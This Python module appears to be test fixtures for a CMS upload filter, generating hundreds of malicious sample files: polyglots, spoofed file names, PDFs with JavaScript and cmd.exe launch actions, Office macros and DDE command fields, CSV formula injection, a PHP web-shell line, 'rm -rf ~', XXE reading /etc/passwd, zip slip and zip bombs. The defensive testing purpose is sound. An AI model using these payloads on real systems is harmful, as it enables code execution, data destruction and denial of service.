# ruff: noqa: E501 - tables of bytes
"""Files that must not be accepted, made by code: `HOSTILE` names each and holds its file name and how to make it.
Nothing in them does anything worse than `alert(1)`.

    python -m tests.cms.media.hostile FOLDER    writes them, and what their names are into index.json
"""

from __future__ import annotations

import io
import json
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

from PIL import Image

from tests.cms.media.samples import EXE, HTML, MP4, PDF, SVG, docx, png, zip_of

Make = Callable[[], bytes]
HOSTILE: dict[str, tuple[str, Make]] = {}
SCRIPT = b"<script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZIP = zip_of(**{"a.txt": b"words"})
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ALLOWED = [
    "pdf",
    "epub",
    "docx",
    "xlsx",
    "pptx",
    "odt",
    "ods",
    "odp",
    "txt",
    "csv",
    "vtt",
    "srt",
    "mp4",
    "webm",
    "mp3",
    "m4a",
    "jpg",
    "jpeg",
    "png",
    "zip",
]


def hostile(what: str, name: str, make: Make | bytes) -> None:
    assert what not in HOSTILE
    HOSTILE[what] = (name, make if callable(make) else partial(bytes, make))


def utf16(text: bytes) -> bytes:
    return text.decode().encode("utf-16")


def picture(image_format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "seagreen").save(buffer, image_format, **options)
    return buffer.getvalue()


# --- types: what runs, under its own name and under every accepted one ---------------------------------------------
RUNNING = {
    "windows program": EXE,
    "linux program": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64,
    "mac program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64,
    "shell script": b"#!/bin/sh\nrm -rf ~\n",
    "page": HTML,
    "drawing": SVG,
}
for kind, content in RUNNING.items():
    for extension in ALLOWED:
        hostile(f"{kind} as {extension}", f"file.{extension}", content)
OWN_NAMES = (
    "exe com scr msi bat cmd ps1 sh vbs js jar html htm xhtml svg xml swf hta lnk php docm xlsm pptm dotm xlsb doc rtf"
)
for extension in OWN_NAMES.split():
    hostile(f"type .{extension}", f"file.{extension}", b"words")

# --- names -----------------------------------------------------------------------------------------------------------
NAMES = [
    "guide\u202efdp.txt", "guide\u202dx.pdf", "guide\u2066x.pdf", "guide\u200b.pdf", "gui\x00de.pdf", "guide.exe\x00.pdf",
    "gui\nde.pdf", "gui\x1bde.pdf", "guide\u2028.pdf", "\ufeffguide.pdf", "guide.exe.pdf", "guide.php.pdf", "guide.html.pdf",
    "guide.js.pdf", "guide.svg.pdf", "guide.docm.pdf", "guide.scr .pdf", "con.pdf", "NUL.pdf", "com1.pdf", "lpt9.tar.pdf",
    "aux .pdf", ".pdf", " .pdf", "..pdf", "guide.pdf.", "guide.pdf ", " guide.pdf", "guide.pdf::$DATA", "guide.pdf\x00",
    "..\\guide.pdf", "C:\\guide.pdf", "x" * 300 + ".pdf", "ø" * 260 + ".pdf", "guide", "guide.", "guide.pdf%00.exe",
    "guide.p\u0501f",
]  # fmt: skip
for name in NAMES:
    hostile(f"name {name[:40]!r}", name, PDF)

# --- two things at once ------------------------------------------------------------------------------------------------
GIF = picture("GIF")
for kind, base in {"pdf": PDF, "mp4": MP4, "png": png(64, 48), "jpg": picture("JPEG")}.items():
    hostile(f"{kind} and zip", f"file.{kind}", base + ZIP)
    hostile(f"{kind} and jar with a comment", f"file.{kind}", base + ZIP[:-2] + b"\x05\x00words")
    hostile(f"{kind} and rar", f"file.{kind}", base + b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40)
    hostile(f"{kind} and 7z", f"file.{kind}", base + b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40)
    hostile(f"{kind} and page", f"file.{kind}", base + HTML)
    hostile(f"page and {kind}", f"file.{kind}", HTML + base)
    hostile(f"zip and {kind}", f"file.{kind}", ZIP + base)
    hostile(f"{kind} and php", f"file.{kind}", base + b"<?php system($_GET[0]);")
    hostile(f"{kind} as zip", "file.zip", base + ZIP)
hostile("gif as png", "file.png", GIF)
hostile("gif and zip as jpg", "file.jpg", GIF + ZIP)
hostile("gif and script as png", "file.png", b"GIF89a/*" + b"\x00" * 40 + b"*/=alert(1)")
hostile("page inside a pdf", "file.pdf", PDF.replace(b"\n1 0", b"\n" + HTML + b"\n1 0", 1))
hostile("pdf behind words", "file.pdf", b"words\n" + PDF)
hostile("pdf without an end", "file.pdf", PDF[:-8])
hostile("much behind a pdf", "file.pdf", PDF + b"A" * 5000)
hostile("sound tag and page", "file.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + HTML)
hostile("sound tag and program", "file.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + EXE)
hostile("film and page in a box", "file.mp4", MP4 + struct.pack(">L4s", 8 + len(HTML), b"free") + HTML)
hostile("film cut short", "file.mp4", MP4[:-10])
hostile("picture named film", "file.mp4", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1")
hostile("matroska as webm", "file.webm", b"\x1aE\xdf\xa3\x93B\x82\x88matroska" + b"\x00" * 64)
hostile("png with a page in its words", "file.png", lambda: _png_with_text(SCRIPT))

# --- text ----------------------------------------------------------------------------------------------------------------
TEXTS = {
    "script": b"words\n" + SCRIPT, "image": b"words <svg onload=alert(1)>", "php": b"words <?php echo 1;",
    "link": b"javascript:alert(1)", "wide": utf16(b"<html>" + SCRIPT), "wide inside": utf16(b"words" + SCRIPT),
    "mail": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT, "rich text": b"{\\rtf1\\object\\objdata 0105}",
    "seven bits": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "late": b"words\n" * 100_000 + SCRIPT,
    "zero byte": b"words\x00words", "escape": b"words\x1a words\x07", "entity": b"words <!ENTITY x 'y'>",
    "mark before": b"\xef\xbb\xbf<html>", "frame": b"words <iframe src=//example.org>", "nothing": b"",
}  # fmt: skip
for what, text in TEXTS.items():
    for extension in ("txt", "csv", "srt") if what == "rich text" else ("txt", "csv", "srt", "vtt"):
        start = b"WEBVTT\n\n" if extension == "vtt" and what not in ("wide", "nothing", "wide inside") else b""
        hostile(f"{what} in {extension}", f"file.{extension}", start + text)
for number, cell in enumerate(
    [b"=cmd|'/C calc'!A0", b"+cmd|' /C calc'!A0", b"@SUM(1)*cmd|'/C calc'!A0", b"\"=MSEXCEL|'\\..'!A1\""]
):
    hostile(f"command cell {number}", "file.csv", b"name,sum\nx," + cell + b"\n")


# --- PDF -------------------------------------------------------------------------------------------------------------------
def pdf_with(catalog: bytes, *more: bytes) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog"
        + catalog
        + b">>endobj\n"
        + b"\n".join(more)
        + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def object_stream(content: bytes, entries: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"5 0 obj<<" + entries + b"/Length %d>>stream\n" % len(packed) + packed + b"\nendstream endobj"


SCRIPT_ACTION = b"<</S/JavaScript/JS(app.alert(1))>>"
PDFS = {
    "script at opening": pdf_with(b"/OpenAction" + SCRIPT_ACTION),
    "script at a page": pdf_with(b"/AA<</O" + SCRIPT_ACTION + b">>"),
    "named scripts": pdf_with(b"/Names<</JavaScript<</Names[(a)2 0 R]>>>>"),
    "script spelt in numbers": pdf_with(b"/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"),
    "script all in numbers": pdf_with(b"/OpenAction<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>"),
    "launch": pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "launch spelt in numbers": pdf_with(b"/OpenAction<</S /L#61unch/F(cmd.exe)>>"),
    "attachment": pdf_with(b"/Names<</EmbeddedFiles 2 0 R>>"),
    "attached program": pdf_with(b"", b"4 0 obj<</Type/EmbeddedFile/Length 3>>stream\nMZx\nendstream endobj"),
    "rich media": pdf_with(b"", b"4 0 obj<</Subtype/RichMedia>>endobj"),
    "form that sends": pdf_with(b"/OpenAction<</S/SubmitForm/F(http://example.org)>>"),
    "form that loads": pdf_with(b"/OpenAction<</S/ImportData/F(x.fdf)>>"),
    "attached document opened": pdf_with(b"/OpenAction<</S/GoToE/T<</R/C>>>>"),
    "form of scripts": pdf_with(b"/AcroForm<</XFA 4 0 R>>"),
    "form of many scripts": pdf_with(b"/AcroForm<</XFA [(a) 4 0 R]>>"),
    "locked": pdf_with(b"", b"trailer<</Encrypt 9 0 R>>"),
    "script in packed objects": pdf_with(b"", object_stream(b"9 0 " + SCRIPT_ACTION)),
    "script in packed objects without a type": pdf_with(
        b"", object_stream(b"9 0 " + SCRIPT_ACTION, b"/N 1/First 4/Filter/FlateDecode")
    ),
    "script in packed objects spelt in numbers": pdf_with(
        b"", object_stream(b"9 0 " + SCRIPT_ACTION, b"/Type/Obj#53tm/N 1/First 4/Filter[/FlateDecode]")
    ),
    "objects packed twice": pdf_with(
        b"", object_stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter[/ASCII85Decode/FlateDecode]")
    ),
    "objects packed unusually": pdf_with(
        b"", object_stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>")
    ),
    "objects packed in letters": pdf_with(b"", object_stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")),
    "script in an older version": pdf_with(b"/OpenAction" + SCRIPT_ACTION) + PDF[9:],
    "script behind many bytes": pdf_with(b"", b"%" + b"x" * 3_000_000, b"4 0 obj" + SCRIPT_ACTION + b"endobj"),
}  # fmt: skip
for what, content in PDFS.items():
    hostile(f"pdf: {what}", "file.pdf", content)
hostile("pdf: objects that unpack to much", "file.pdf", lambda: pdf_with(b"", object_stream(b"0" * 140_000_000)))


# --- office ------------------------------------------------------------------------------------------------------------------
def xlsx(**more: bytes) -> bytes:
    return zip_of(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", **more})


def pptx(**more: bytes) -> bytes:
    return zip_of(**{"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>", **more})


def odt(content: bytes = b"<d/>", **more: bytes) -> bytes:
    return zip_of(mimetype=b"application/vnd.oasis.opendocument.text", **{"content.xml": content, **more})


def relationship(kind: str, target: str) -> bytes:
    return f'<Relationships><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()


PARTS = {
    "macros": {"{}/vbaProject.bin": OLE}, "macros elsewhere": {"{}/media/VBAPROJECT.BIN": OLE},
    "a control": {"{}/activeX/activeX1.bin": OLE}, "a page": {"{}/page.html": HTML}, "a mail": {"{}/page.mht": HTML},
    "a rich text": {"{}/chunk.rtf": b"{\\rtf1}"}, "a program": {"{}/embeddings/a.exe": EXE},
    "a program without its name": {"{}/embeddings/a.bin": EXE}, "a link": {"{}/a.lnk": b"x"},
    "a package": {"{}/embeddings/oleObject1.bin": OLE + b"\x00" * 500 + "\x01Ole10Native".encode("utf-16-le")},
    "an old file with macros": {"{}/embeddings/old.bin": OLE + b"\x00" * 500 + "_VBA_PROJECT".encode("utf-16-le")},
    "a document with macros": {"{}/embeddings/b.docx": docx(**{"word/vbaProject.bin": OLE})},
    "a document with macros two deep": {"{}/embeddings/b.docx": docx(**{"word/embeddings/c.xlsx": xlsx(**{"xl/vbaProject.bin": OLE})})},
    "an archive": {"{}/embeddings/a.zip": ZIP}, "an archive without its name": {"{}/media/a.png": ZIP},
    "a template from elsewhere": {"{}/_rels/settings.xml.rels": relationship("attachedTemplate", "https://example.org/a.dotm")},
    "a template from a share": {"{}/_rels/settings.xml.rels": relationship("attachedTemplate", "\\\\evil.example\\a.dotm")},
    "an object from elsewhere": {"{}/_rels/document.xml.rels": relationship("oleObject", "mhtml:https://example.org!x")},
    "an object fetched": {"{}/_rels/document.xml.rels": relationship("oleObject", "https://example.org/x.html!")},
    "a frame from elsewhere": {"{}/_rels/webSettings.xml.rels": relationship("frame", "http://example.org/")},
    "a picture from a share": {"{}/_rels/document.xml.rels": relationship("image", "file://evil.example/a.png")},
    "a picture from an address": {"{}/_rels/document.xml.rels": relationship("image", "file:///\\\\10.0.0.1\\a.png")},
    "a link that runs": {"{}/_rels/document.xml.rels": relationship("hyperlink", "javascript:alert(1)")},
    "a link to a protocol": {"{}/_rels/document.xml.rels": relationship("hyperlink", "ms-msdt:/id PCWDiagnostic")},
    "a link to a search": {"{}/_rels/document.xml.rels": relationship("hyperlink", "search-ms:query=x")},
    "growing entities": {"{}/a.xml": b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'},
    "an outer entity": {"{}/a.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
    "a parameter entity": {"{}/a.xml": b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://example.org/x"> %b;]><a/>'},
    "an outer grammar": {"{}/a.xml": b'<!DOCTYPE a SYSTEM "http://example.org/x.dtd"><a/>'},
    "wide entities": {"{}/a.xml": utf16(b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>')},
    "an unknown encoding": {"{}/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'},
    "broken parts": {"{}/a.xml": b"<a><b></a>"}, "endless depth": {"{}/a.xml": b"<a>" * 100_000 + b"</a>" * 100_000},
    "a declared macro": {"[Content_Types].xml": b'<Types><Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'},
    "a declared macro in wide letters": {"[Content_Types].xml": utf16(b'<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')},
}  # fmt: skip
for folder, extension, build in (("word", "docx", docx), ("xl", "xlsx", xlsx), ("ppt", "pptx", pptx)):
    for what, parts in PARTS.items():
        named = {name.format(folder): content for name, content in parts.items()}
        hostile(f"{extension}: {what}", f"file.{extension}", partial(build, **named))
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FIELD = (
    b"<w:d %s><w:p><w:instrText>DD</w:instrText><w:t>words</w:t><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:p></w:d>"
    % W
)
SIMPLE = b'<w:d %s><w:fldSimple w:instr="DDE cmd calc"/></w:d>' % W
RUN = b'<p xmlns:a="urn:a"><a:hlinkClick action="ppaction://program?x"/></p>'
hostile("docx: a command in pieces", "file.docx", docx(**{"word/document.xml": FIELD}))
hostile("docx: a command", "file.docx", docx(**{"word/header1.xml": SIMPLE}))
hostile(
    "xlsx: a command",
    "file.xlsx",
    xlsx(**{"xl/externalLinks/externalLink1.xml": b'<e><ddeLink ddeService="cmd"/></e>'}),
)
hostile("xlsx: a macro sheet", "file.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": b"<m/>"}))
hostile("pptx: a program at a click", "file.pptx", pptx(**{"ppt/slides/slide1.xml": RUN}))
hostile("docx: locked", "file.docx", OLE + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le"))
hostile("docx: nothing of Word inside", "file.docx", zip_of(**{"[Content_Types].xml": b"<Types/>"}))
hostile("xlsx: a docx", "file.xlsx", docx())
X = b'xmlns:x="http://www.w3.org/1999/xlink" xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:o="o"'
ODTS = {
    "a macro": {"Basic/Standard/Module1.xml": b"<m/>"}, "a script": {"Scripts/python/a.txt": b"x"},
    "a dialog": {"Dialogs/Standard/D.xml": b"<m/>"}, "a program": {"Pictures/a.exe": EXE},
    "a program without its name": {"Object 1": EXE}, "an object": {"Object 1": OLE + "\x01Ole10Native".encode("utf-16-le")},
    "another kind": {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
    "an entity": {"styles.xml": b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'},
    "locked": {"META-INF/manifest.xml": b"<m><e><encryption-data/></e></m>"},
    "a page": {"Object 1/a.html": HTML}, "an archive": {"Object 2": ZIP},
}  # fmt: skip
CONTENTS = {
    "a listener": b'<d %s><s:event-listener s:event-name="dom:load" x:href="vnd.sun.star.script:a"/></d>',
    "a script in the text": b'<d %s><o:script s:language="JavaScript">alert(1)</o:script></d>',
    "a link to a macro": b'<d %s><a x:href="macro:///Standard.Module1.Main"/></d>',
    "a link to a script": b'<d %s><a x:href="vnd.sun.star.script:a.py$x?language=Python"/></d>',
    "a command": b"<d %s><o:dde-source/></d>",
    "an action": b'<d %s><o:event-listener o:action="execute"/></d>',
    "a picture from a share": b'<d %s><a x:href="file://evil.example/a.png"/></d>',
    "a link that runs": b'<d %s><a x:href="javascript:alert(1)"/></d>',
}  # fmt: skip
for what, parts in ODTS.items():
    hostile(
        f"odt: {what}",
        "file.odt",
        partial(
            lambda p: zip_of(**{"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<d/>", **p}),
            parts,
        ),
    )
for what, content in CONTENTS.items():
    hostile(f"odt: {what} in it", "file.odt", odt(content % X))


def epub(**more: bytes) -> bytes:
    return zip_of(mimetype=b"application/epub+zip", **{"META-INF/container.xml": b"<c/>", **more})


PAGES = {
    "a script": SCRIPT, "a script by another name": b'<h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script>',
    "an event": b'<img src="a.png" onerror="alert(1)"/>', "a link that runs": b'<a href="javascript:alert(1)">x</a>',
    "a frame": b'<iframe src="http://example.org"/>', "an entity": b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>',
    "a script in wide letters": utf16(b"<html>" + SCRIPT), "a script far down": b"<p>words</p>" * 20_000 + SCRIPT,
}  # fmt: skip
for what, page in PAGES.items():
    hostile(f"epub: {what}", "book.epub", epub(**{"text/1.xhtml": page}))
hostile("epub: a script in a drawing", "book.epub", epub(**{"a.svg": SVG}))
hostile("epub: a script file", "book.epub", epub(**{"a.js": b"alert(1)"}))


# --- archives ----------------------------------------------------------------------------------------------------------------
def patched(content: bytes, at: int, value: bytes, *, signature: bytes = b"PK\x01\x02") -> bytes:
    position = content.find(signature) + at
    return content[:position] + value + content[position + len(value) :]


def linked() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def bomb(entries: int, size: int) -> bytes:
    """`entries` of `size` zero bytes, all of them the same packed bytes."""
    return zip_of(**{f"{number}.txt": b"\x00" * size for number in range(entries)})


def overlapping() -> bytes:
    """Two names for one entry's bytes: https://www.bamsoftware.com/hacks/zipbomb/"""
    base = zip_of(**{"a.txt": b"words" * 1000})
    start, end = base.find(b"PK\x01\x02"), base.find(b"PK\x05\x06")
    listed = base[start:end]
    again = listed.replace(b"a.txt", b"b.txt")
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, 2 * len(listed), start, 0)
    return base[:start] + listed + again + tail


def nested(depth: int) -> bytes:
    content = docx()
    for _level in range(depth):
        content = docx(**{"word/embeddings/more.docx": content})
    return content


def quine_like() -> bytes:
    inner = docx(**{"word/media/zeros.bin": b"\x00" * 20_000_000})
    return zip_of(**{f"{number}.docx": inner for number in range(12)})


def doubled(first: str, second: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(first, "words")
        archive.writestr(second, "words")
    return buffer.getvalue()


LONG_DIRECTORY = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 2**40, 0)
ENTRIES = {
    "a program": {"a.exe": EXE}, "a program by another name": {"a.dat": EXE}, "a script": {"a.js": b"alert(1)"},
    "a link": {"a.lnk": b"x"}, "a page": {"a.html": HTML}, "a drawing": {"a.svg": SVG}, "macros": {"a.docm": b"x"},
    "macros renamed": {"a.docx": docx(**{"word/vbaProject.bin": OLE})}, "a script in a pdf": {"a.pdf": PDFS["launch"]},
    "a page named text": {"a.txt": HTML}, "a program named picture": {"a.png": EXE}, "a drawing named picture": {"a.jpg": SVG},
    "an archive": {"a.zip": ZIP}, "an archive by another name": {"a.dat": ZIP}, "another archive": {"a.rar": b"Rar!\x1a\x07"},
    "another archive by another name": {"a.dat": b"7z\xbc\xaf\x27\x1c"}, "a packed file": {"a.gz": b"\x1f\x8b"},
    "a way out": {"../../a.txt": b"x"}, "a way out backwards": {"..\\..\\a.txt": b"x"}, "a way from the root": {"/etc/a.txt": b"x"},
    "a drive": {"C:a.txt": b"x"}, "a hidden stream": {"a.txt:b.exe": b"x"}, "a turned name": {"a\u202etxt.exe.txt": b"x"},
    "two extensions": {"a.exe.txt": b"x"}, "a device": {"nul.txt": b"x"}, "a space at the end": {"a.exe ": EXE},
    "old macros": {"a.doc": OLE + b"\x00" * 600 + "_VBA_PROJECT".encode("utf-16-le")}, "a shortcut": {"a.url": b"[x]"},
    "a settings file": {"a.reg": b"x"}, "a disk": {"a.iso": b"x"}, "a query": {"a.iqy": b"x"},
}  # fmt: skip
for what, parts in ENTRIES.items():
    hostile(f"zip: {what}", "pack.zip", partial(zip_of, **parts))
hostile("zip: a link to another place", "pack.zip", linked)
hostile("zip: locked", "pack.zip", patched(patched(ZIP, 6, b"\x01", signature=b"PK\x03\x04"), 8, b"\x01"))
hostile("zip: says it unpacks to 4 GB", "pack.zip", patched(ZIP, 24, b"\xff\xff\xff\xf0"))
hostile("zip: says it unpacks to nothing", "pack.zip", lambda: patched(bomb(1, 20_000_000), 24, b"\x0a\0\0\0"))
hostile("zip: a bomb", "pack.zip", partial(bomb, 6, 20_000_000))
hostile("docx: a bomb", "plan.docx", lambda: docx(**{"word/media/a.bmp": b"\x00" * 110_000_000}))
hostile("docx: a bomb of letters", "plan.docx", lambda: docx(**{"word/a.xml": b"<a b='" + b"x" * 20_000_000 + b"'/>"}))
hostile("zip: one entry for two names", "pack.zip", overlapping)
hostile("zip: ten thousand and one", "pack.zip", lambda: zip_of(**{f"{n}.txt": b"x" for n in range(10_001)}))
hostile("docx: documents in documents", "plan.docx", partial(nested, 6))
hostile("zip: many that unpack to much", "pack.zip", quine_like)
hostile("zip: two entries of one name", "pack.zip", partial(doubled, "a.txt", "a.txt"))
hostile("zip: two entries of almost one name", "pack.zip", partial(doubled, "a.txt", "A.TXT"))
hostile("zip: another before it", "pack.zip", ZIP + ZIP)
hostile("zip: words behind it", "pack.zip", ZIP + b"words")
hostile("zip: a page in its comment", "pack.zip", ZIP[:-2] + struct.pack("<H", len(HTML)) + HTML)
hostile("zip: another name inside", "pack.zip", ZIP.replace(b"a.txt", b"b.exe", 1))
hostile("zip: a wrong sum", "pack.zip", patched(zip_of(**{"a.txt": b"words"}), 16, b"\0\0\0\0"))
hostile("zip: cut short", "pack.zip", ZIP[:-10])
hostile("zip: empty", "pack.zip", zip_of())
hostile("zip: a list too long", "pack.zip", patched(ZIP, 12, b"\xff\xff\xff\xff", signature=b"PK\x05\x06"))
hostile(
    "zip: a second list too long", "pack.zip",
    ZIP[:-22] + LONG_DIRECTORY + struct.pack("<4sLQL", b"PK\x06\x07", 0, len(ZIP) - 22, 1) + ZIP[-22:],
)  # fmt: skip


# --- pictures ----------------------------------------------------------------------------------------------------------------
def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def png_of(width: int, height: int, packed: bytes = b"", *more: bytes, depth: int = 8) -> bytes:
    header = struct.pack(">LLBBBBB", width, height, depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join([chunk(b"IHDR", header), *more, chunk(b"IDAT", packed), chunk(b"IEND", b"")])


def _png_with_text(text: bytes) -> bytes:
    return png_of(1, 1, zlib.compress(b"\0\0"), chunk(b"tEXt", b"Comment\0" + text))


def jpeg_of(width: int, height: int) -> bytes:
    content = bytearray(picture("JPEG"))
    frame = content.find(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def animated(frames: int, size: int) -> bytes:
    control = chunk(b"acTL", struct.pack(">LL", frames, 0))
    return png_of(size, size, zlib.compress(bytes(size + 1) * size), control)


PICTURES: dict[str, tuple[str, Make]] = {
    "60,000 points wide": ("a.png", lambda: png_of(60_000, 60_000, zlib.compress(b"\0" * 1_000_000))),
    "12,000 points wide": ("a.png", lambda: png_of(12_000, 12_000, zlib.compress(b"\0" * 1_000_000))),
    "7,000 points of sixteen bits": ("a.png", lambda: png_of(7_000, 7_000, zlib.compress(b"\0" * 1000), depth=16)),
    "as wide as can be": ("a.png", lambda: png_of(2**31 - 1, 2**31 - 1)), "nothing wide": ("a.png", lambda: png_of(0, 0)),
    "a line": ("a.png", lambda: png_of(2**31 - 1, 1)), "65,535 points wide": ("a.jpg", lambda: jpeg_of(65_535, 65_535)),
    "20,000 points wide": ("a.jpg", lambda: jpeg_of(20_000, 20_000)), "a thousand frames": ("a.png", lambda: animated(1000, 400)),
    "words that unpack to much": ("a.png", lambda: png_of(1, 1, zlib.compress(b"\0\0"), chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 20_000_000)))),
    "colours that unpack to much": ("a.png", lambda: png_of(1, 1, zlib.compress(b"\0\0"), chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 20_000_000)))),
    "cut short": ("a.jpg", lambda: picture("JPEG")[:-100]), "a png cut short": ("a.png", lambda: png(64, 48)[:-40]),
    "a png without points": ("a.png", lambda: png_of(100, 100)), "a broken sum": ("a.png", lambda: png(64, 48)[:40] + b"xxxx" + png(64, 48)[44:]),
    "a jpeg named png": ("a.png", lambda: picture("JPEG")), "a webp named png": ("a.png", lambda: picture("WEBP")),
    "a tiff named jpg": ("a.jpg", lambda: picture("TIFF")), "an icon named png": ("a.png", lambda: picture("ICO")),
    "postscript named jpg": ("a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
}  # fmt: skip
for what, (name, make) in PICTURES.items():
    hostile(f"picture: {what}", name, make)


def write_all(folder: Path) -> None:
    names = {}
    for number, (what, (name, make)) in enumerate(HOSTILE.items()):
        (folder / str(number)).write_bytes(make())
        names[str(number)] = [what, name]
    (folder / "index.json").write_text(json.dumps(names))


if __name__ == "__main__":
    warnings.simplefilter("ignore")  # of names that occur twice in a zip
    write_all(Path(sys.argv[1]))
